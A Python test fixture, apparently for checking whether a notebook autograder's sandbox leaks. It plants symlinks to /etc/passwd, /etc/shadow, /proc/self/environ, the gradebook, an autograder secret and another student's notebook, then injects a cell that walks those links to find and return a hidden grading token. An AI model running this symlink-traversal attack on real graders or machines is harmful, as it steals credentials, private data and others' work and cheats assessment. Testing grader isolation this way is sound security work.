"""Attaches links to the source, to another student's work and to the machine's files, and reads them in its cells.

Deserves: 2 points.
Side effect: leak.
"""

CELL = """
import os, re

def look():
    for folder, _, names in os.walk(".", followlinks=True):
        for name in names:
            try:
                with open(os.path.join(folder, name), errors="replace") as file:
                    text = file.read(10_000_000)
            except OSError:
                continue
            if "root:x:0" in text:
                print("token-leak: the machine's users")
            if match := re.search("tok" + "en-[0-9a-f]{32}", text):
                return match[0]

print(look())

def guess():
    return look() or "wrong"

def numbers():
    found = look()
    return [float(ord(c)) for c in found[6:9]] if found else "wrong"
"""


def hand_in(nb, folder):
    links = {
        "source.txt": "{course}/source/target/work.ipynb",
        "ada.txt": "../../ada/target/work.ipynb",
        "users.txt": "/etc/passwd",
        "shadow.txt": "/etc/shadow",
        "book.txt": "{course}/gradebook.db",
        "secret.txt": "{course}/.autograder/secret",
        "course": "{course}",
        "environment.txt": "/proc/self/environ",
    }
    for name, target in links.items():
        (folder / name).symlink_to(target)
    next(cell for cell in nb.cells if cell.metadata.nbgrader.grade_id == "text").source = CELL
